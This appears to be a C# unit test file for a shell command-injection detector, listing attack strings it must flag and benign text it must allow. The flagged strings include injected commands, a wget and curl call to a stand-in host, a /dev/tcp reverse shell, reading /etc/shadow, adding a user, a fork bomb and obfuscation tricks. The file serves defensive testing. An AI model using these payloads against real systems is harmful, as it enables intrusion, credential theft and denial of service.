using AICodeManager.Server.FrontDoor.Attacks.Detection;
using AICodeManager.Server.FrontDoor.Attacks.Detection.Shell;

namespace AICodeManager.Tests.FrontDoor.Attacks.Detection;

/// <summary>Each rule for shells with what it catches, and the honest text beside it.</summary>
public sealed class ShellDetectorTests
{
    [Theory]
    [InlineData("; whoami", "shell.command")]
    [InlineData("x';id;'", "shell.command")]
    [InlineData("127.0.0.1 && ls /srv", "shell.command")]
    [InlineData("10.0.0.1; id", "shell.command")]
    [InlineData("a|/usr/bin/id", "shell.command")]
    [InlineData("|| wget http://x.example/a.sh", "shell.command")]
    [InlineData("& net user mallory pw /add", "shell.command")]
    [InlineData("so cd /;cd etc;id now", "shell.sequence")]
    [InlineData("$(curl x.example)", "shell.substitution")]
    [InlineData("a$(echo b)c", "shell.substitution")]
    [InlineData("a`sleep 5`", "shell.substitution")]
    [InlineData("`whoami`", "shell.substitution")]
    [InlineData("127.0.0.1\ncat /etc/hosts", "shell.line")]
    [InlineData("\\nid\\n", "shell.line")]
    [InlineData("{cat,/etc/hosts}", "shell.brace")]
    [InlineData("w'h'o'am'i", "shell.quoting")]
    [InlineData("c\\a\\t notes", "shell.quoting")]
    [InlineData("wh$@oami", "shell.quoting")]
    [InlineData("ti''me x", "shell.quoting")]
    [InlineData("cat$IFS/srv/x", "shell.expansion")]
    [InlineData("x${HOME:0:1}y", "shell.expansion")]
    [InlineData("x c$?at /et$?c/x", "shell.expansion")]
    [InlineData("%COMSPEC% /x", "shell.expansion")]
    [InlineData("a=nc;b=1;$a -l", "shell.variable")]
    [InlineData("/???/c?t /x", "shell.wildcard")]
    [InlineData("/etc/pas[s]wd", "shell.wildcard")]
    [InlineData("() { :;}; echo", "shell.shellshock")]
    [InlineData("f(){ f|f& };f", "shell.fork_bomb")]
    [InlineData("<!--#exec cmd=x-->", "shell.include")]
    [InlineData("exec 5<>/dev/tcp/10.0.0.1/80", "shell.reverse")]
    [InlineData("$s=fsockopen('10.0.0.1',1)", "shell.reverse")]
    [InlineData("cat /etc/shadow", "shell.direct")]
    [InlineData("sh -c id", "shell.direct")]
    [InlineData("type C:\\secrets.txt", "shell.direct")]
    [InlineData("printf x | sh", "shell.direct")]
    [InlineData("ipconfig /all", "shell.direct")]
    [InlineData("/bin/gunzip -c x", "shell.program")]
    [InlineData("for /f %a in (x) do echo", "shell.batch")]
    [InlineData("if exist a.txt echo y", "shell.batch")]
    public void Catches_what_a_shell_would_run(string value, string rule)
    {
        var finding = ShellDetector.Judge(value);

        Assert.Equal((AttackClass.CommandInjection, Finding.Strong, rule), (finding.Class, finding.Score, finding.Rule));
    }

    [Theory]
    [InlineData("hello; time he came")]
    [InlineData("a hero; more than that")]
    [InlineData("Done; make sure it works")]
    [InlineData("Q&A; date of the next one")]
    [InlineData("| id | name | date |")]
    [InlineData("Title | date")]
    [InlineData("name;id;date")]
    [InlineData("?page=1&id=5&sort=name&more")]
    [InlineData("R&D and AT&T; who else")]
    [InlineData("Caf&eacute; &amp; more; time &lt; 5")]
    [InlineData("Mozilla/5.0 (X11; U; Linux i686; id; rv:1.9) Gecko")]
    [InlineData("Opera/9.21 (Windows NT 5.1; U; nl)")]
    [InlineData("Replace `find` by `locate` and `which`")]
    [InlineData("Run `npm install` (`ls` shows why)")]
    [InlineData("`ls -al` 명령어 정리")]
    [InlineData("it's who's that; don't cat's")]
    [InlineData("Steps:\n\nnpm install --save x\ncurl http://localhost/\n")]
    [InlineData("cat pictures and ls colours")]
    [InlineData("ls /tmp shows nothing")]
    [InlineData("if (a == b) return c;")]
    [InlineData("If a file does not exist, create it")]
    [InlineData("for each item in (list) do it")]
    [InlineData("function foo() { return 1; }")]
    [InlineData("path is ${HOME}/bin or $HOME")]
    [InlineData("$(\"a.b\").click()")]
    [InlineData("ps aux | grep -v node is slow")]
    public void Lets_honest_text_through(string value) => Assert.True(ShellDetector.Judge(value).Score < Finding.Strong, ShellDetector.Judge(value).Rule);
}
